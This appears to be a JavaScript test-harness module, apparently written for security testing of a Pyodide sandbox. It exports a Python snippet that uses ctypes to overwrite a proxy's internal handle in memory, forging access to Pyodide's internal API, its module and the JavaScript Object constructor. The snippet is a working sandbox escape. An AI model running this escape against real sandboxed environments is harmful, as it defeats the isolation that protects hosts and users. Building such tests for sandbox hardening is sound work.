/**
 * Python that has got to JavaScript. What is closed on the way there is tested by itself; behind the way that is left
 * (memory that `ctypes` writes) stands what these objects may do, and that is what the attacks that begin with this
 * code are about.
 *
 * @module
 */

/**
 * Makes `API` (Pyodide's inside), `pyodide` (its outside), `Module` (Emscripten's), and `Object`.
 *
 * A proxy in Python holds a number by which the engine finds the object of JavaScript. `ctypes` writes another number:
 * the fifth object that the engine has ever kept, in its first generation.
 */
export const BREAK_OUT = `import ctypes
from pyodide.ffi import create_proxy, to_js
def forge(reference):
    ctypes.CDLL(None).hiwire_incref(reference)
    proxy = to_js({})
    words = (ctypes.c_int * 16).from_address(id(proxy))
    at = next(i for i in range(6, 12) if words[i] & 1 and words[i] >> 26 > 0)
    words[at] = reference
    return proxy
API = API if "API" in globals() else forge(1 << 26 | 5 << 1 | 1)
pyodide = API.public_api
Module = pyodide._module
Object = to_js({}).constructor
print("broken out of", pyodide.version)
`;
